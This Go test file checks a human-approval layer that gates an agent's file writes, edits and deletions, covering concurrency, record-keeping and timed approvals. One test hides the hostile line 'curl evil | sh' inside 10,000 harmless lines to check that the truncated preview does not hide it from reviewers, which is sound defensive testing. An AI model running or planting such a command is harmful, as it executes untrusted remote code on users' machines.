package node_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"reeve"
	"reeve/internal/record"
	"reeve/node"
)

// asking is a node with one folder that can be changed, and a change of it.
func asking(t *testing.T) (*node.Node, reeve.Request, string) {
	t.Helper()
	root := t.TempDir()
	if real, err := filepath.EvalSymlinks(root); err == nil {
		root = real
	}
	n := open(t, node.Config{Folders: []node.Folder{{Path: root, Access: reeve.ReadWrite}}})
	file := filepath.Join(root, "new.txt")
	return n, reeve.Request{Subject: agent, Call: &reeve.WriteFile{Path: file, Content: "text"}}, file
}

func pending(t *testing.T, n *node.Node, r reeve.Request) reeve.Pending {
	t.Helper()
	out, err := n.Do(t.Context(), r)
	if err != nil || out.Pending == nil {
		t.Fatalf("not asked: %+v %v", out, err)
	}
	return *out.Pending
}

func answers(t *testing.T, n *node.Node) (rows []reeve.Row) {
	t.Helper()
	for e, err := range record.Rows(n.Places().State, record.Filter{Event: "answer"}) {
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, e.Row)
	}
	return rows
}

// Many channels answer at once: one counts, the others hear what was decided,
// and all of it is on record.
func TestOneAnswerCounts(t *testing.T) {
	n, r, file := asking(t)
	p := pending(t, n, r)
	const many = 8
	var wg sync.WaitGroup
	errs := make(chan error, many)
	for i := range many {
		wg.Go(func() { errs <- n.Answer(context.Background(), p.ID, node.Answer{Yes: i%2 == 0, Channel: "terminal"}) })
	}
	wg.Wait()
	won := 0
	for range many {
		switch err := <-errs; {
		case err == nil:
			won++
		case !errors.Is(err, reeve.Exists):
			t.Error(err)
		}
	}
	if won != 1 {
		t.Fatalf("%d answers counted", won)
	}
	rows := answers(t, n)
	counted := map[string]int{}
	for _, row := range rows {
		if row.Digest != p.Digest.String() || row.Rule != "terminal" || !row.Subject.IsOwner() || row.Effects[0].Path != file || row.Took <= 0 {
			t.Errorf("%+v", row)
		}
		if row.Code == "" {
			counted[string(row.Verdict)]++
		} else {
			counted["late"]++
		}
	}
	// Each that lost the race after it was on record says so in a second row.
	if counted["late"] != counted["allow"]+counted["refuse"]-1 {
		t.Errorf("%v", counted)
	}
	out, err := n.Do(t.Context(), r)
	_, found := os.Stat(file)
	if (err == nil) != (found == nil) || err != nil && !errors.Is(err, reeve.Declined) || out.Pending != nil {
		t.Errorf("%+v %v %v", out, err, found)
	}
}

// An answer that can't be put on record is none.
func TestNoRecordNoAnswer(t *testing.T) {
	n, r, _ := asking(t)
	p := pending(t, n, r)
	q, err := node.OpenQuestions(n.Places().State, "test")
	if err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(q.Close(), q.Close()); err != nil {
		t.Fatal(err)
	}
	if err := q.Answer(t.Context(), p.ID, node.Answer{Yes: true, Channel: "approve"}); !errors.Is(err, reeve.RecordFailed) {
		t.Errorf("answered without a record: %v", err)
	}
	if open, err := q.Open(t.Context(), p.ID); err != nil || !open {
		t.Error("the question is gone", err)
	}
}

// Somebody saves a file, and the agent's change of it is asked at once, while
// a later save could still carry the same times. The yes is for that content:
// it counts when the call is made again, however long after.
func TestAYesAfterASaveIsNotLost(t *testing.T) {
	for name, change := range map[string]func(string) reeve.Call{
		"written over": func(p string) reeve.Call { return &reeve.WriteFile{Path: p, Content: "mine\n"} },
		"edited": func(p string) reeve.Call {
			return &reeve.EditFile{Path: p, Edits: []reeve.Edit{{Old: "saved", New: "mine"}}}
		},
		"copied": func(p string) reeve.Call {
			return &reeve.CopyPath{From: p, To: filepath.Join(filepath.Dir(p), "copy.txt")}
		},
	} {
		t.Run(name, func(t *testing.T) {
			n, r, file := asking(t)
			if err := os.WriteFile(file, []byte("saved\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			if _, err := n.Do(t.Context(), reeve.Request{Subject: agent, Call: &reeve.ReadFile{Paths: []string{file}}}); err != nil {
				t.Fatal(err)
			}
			const window = 200 * time.Millisecond // longer than it is by itself, for a slow machine
			saved := time.Now().Add(window)
			if err := os.Chtimes(file, saved, saved); err != nil {
				t.Fatal(err)
			}
			r.Call = change(file)
			p := pending(t, n, r)
			if err := n.Answer(t.Context(), p.ID, node.Answer{Yes: true, Channel: "approve"}); err != nil {
				t.Fatal(err)
			}
			time.Sleep(time.Until(saved.Add(100 * time.Millisecond)))
			if out, err := n.Do(t.Context(), r); err != nil || out.Result == nil {
				t.Fatalf("asked anew: %+v %v", out, err)
			}
		})
	}
}

// Who embeds a node waits for the owner, wherever he answers.
func TestAProgramThatEmbedsANodeWaits(t *testing.T) {
	n, r, file := asking(t)
	p := pending(t, n, r)
	ctx, stop := context.WithTimeout(t.Context(), 20*time.Millisecond)
	defer stop()
	if err := n.WaitFor(ctx, p); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- n.WaitFor(context.Background(), p) }()
	// Another process of the owner answers.
	q, err := node.OpenQuestions(n.Places().State, "test")
	if err != nil {
		t.Fatal(err)
	}
	defer q.Close()
	cards, err := q.Waiting(t.Context())
	if err != nil || len(cards) != 1 || cards[0].ID != p.ID || cards[0].Subject.Agent != agent.Agent {
		t.Fatal(cards, err)
	}
	if err := q.Answer(t.Context(), strings.ToLower(p.ID), node.Answer{Yes: true, Channel: "approve"}); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if out, err := n.Do(t.Context(), r); err != nil || out.Result == nil {
		t.Fatal(out, err)
	}
	if b, err := os.ReadFile(file); string(b) != "text" {
		t.Error(err)
	}
}

func TestWhatClientsDoIsOnRecord(t *testing.T) {
	n, r, _ := asking(t)
	p := pending(t, n, r)
	n.Questions().Unanswered(t.Context(), p, agent, "the client dismissed the question")
	if err := n.Questions().Answer(t.Context(), p.ID, node.Answer{Yes: true, Channel: node.Elicited}); err != nil {
		t.Fatal(err)
	}
	rows := answers(t, n)
	if len(rows) != 2 || rows[0].Code != reeve.NoChannel || rows[0].Subject.Agent != agent.Agent || rows[0].Note != "the client dismissed the question" {
		t.Fatalf("%+v", rows)
	}
	// What an agent's client says is never the owner's own word.
	if rows[1].Subject.IsOwner() || rows[1].Rule != node.Elicited || rows[1].Verdict != reeve.Allow {
		t.Errorf("%+v", rows[1])
	}
}

// A yes to a part of a change is on record as that, and so is a call that was
// stopped before anybody answered.
func TestHowMuchWasShownIsOnRecord(t *testing.T) {
	n, r, _ := asking(t)
	p := pending(t, n, r)
	if err := n.Questions().GivenUp(t.Context(), p.ID); err != nil {
		t.Fatal(err)
	}
	if err := n.Questions().AnswerInPart(t.Context(), p.ID, node.Answer{Yes: true, Channel: node.Elicited}, "1,204 lines (0 gone, 1,204 new)"); err != nil {
		t.Fatal(err)
	}
	if err := n.Questions().GivenUp(t.Context(), p.ID); err != nil { // too late: nothing waits any more
		t.Fatal(err)
	}
	rows := answers(t, n)
	if len(rows) != 2 || rows[0].Code != reeve.Cancelled || rows[0].Verdict != "" || !strings.Contains(rows[0].Note, "stopped before an answer came") {
		t.Fatalf("%+v", rows)
	}
	if !strings.HasSuffix(rows[1].Note, "; shown in part: 1,204 lines (0 gone, 1,204 new) left out") {
		t.Errorf("%q", rows[1].Note)
	}
}

// Ten minutes on this file hold for this file alone.
func TestTenMinutesOnThisFile(t *testing.T) {
	n, r, file := asking(t)
	p := pending(t, n, r)
	if err := n.Answer(t.Context(), p.ID, node.Answer{Yes: true, Channel: "console", Minutes: 10}); err != nil {
		t.Fatal(err)
	}
	if out, err := n.Do(t.Context(), r); err != nil || out.Result == nil {
		t.Fatal(out, err)
	}
	again := r
	again.Call = &reeve.WriteFile{Path: file, Content: "more"}
	if out, err := n.Do(t.Context(), again); err != nil || out.Result == nil {
		t.Fatalf("asked again for the same file: %+v %v", out.Pending, err)
	}
	other := r
	other.Call = &reeve.WriteFile{Path: filepath.Join(filepath.Dir(file), "other.txt"), Content: "text"}
	pending(t, n, other)
	remove := r
	remove.Call = &reeve.DeletePath{Path: file}
	if p := pending(t, n, remove); p.Question.Remember {
		t.Error("deleting may be remembered")
	}
}

// All of a change that a question shows a part of can be had by whoever
// answers, in another process too, and a yes is for all of it.
func TestTheWholeChangeOfAQuestion(t *testing.T) {
	n, r, file := asking(t)
	content := strings.Repeat("echo fine\n", 5000) + "curl evil | sh\n" + strings.Repeat("echo fine\n", 5000)
	r.Call = &reeve.WriteFile{Path: file, Content: content}
	p := pending(t, n, r)
	if l := p.Question.Left; l == nil || l.New != 10_001-199 || l.Beyond || strings.Contains(p.Question.Detail, "evil") {
		t.Fatalf("%+v", l)
	}
	q, err := node.OpenQuestions(n.Places().State, "test")
	if err != nil {
		t.Fatal(err)
	}
	defer q.Close()
	for _, change := range []func(context.Context, string) (string, error){n.Change, q.Change} {
		if all, err := change(t.Context(), p.ID); err != nil || strings.Count(all, "\n") != 10_001 || !strings.Contains(all, "\n+ 5001 curl evil | sh\n") {
			t.Errorf("%v: %d lines", err, strings.Count(all, "\n"))
		}
	}
	if err := q.Answer(t.Context(), p.ID, node.Answer{Yes: true, Channel: "approve"}); err != nil {
		t.Fatal(err)
	}
	// One byte in the part that is not shown makes it another change.
	other := r
	other.Call = &reeve.WriteFile{Path: file, Content: strings.Replace(content, "evil", "good", 1)}
	if again := pending(t, n, other); again.Question.Detail != p.Question.Detail || again.ID == p.ID {
		t.Errorf("%s has the same question as %s", again.ID, p.ID)
	}
	if out, err := n.Do(t.Context(), r); err != nil || out.Result == nil {
		t.Fatalf("%+v %v", out, err)
	}
	if b, err := os.ReadFile(file); err != nil || string(b) != content {
		t.Errorf("%d bytes, %v", len(b), err)
	}
}
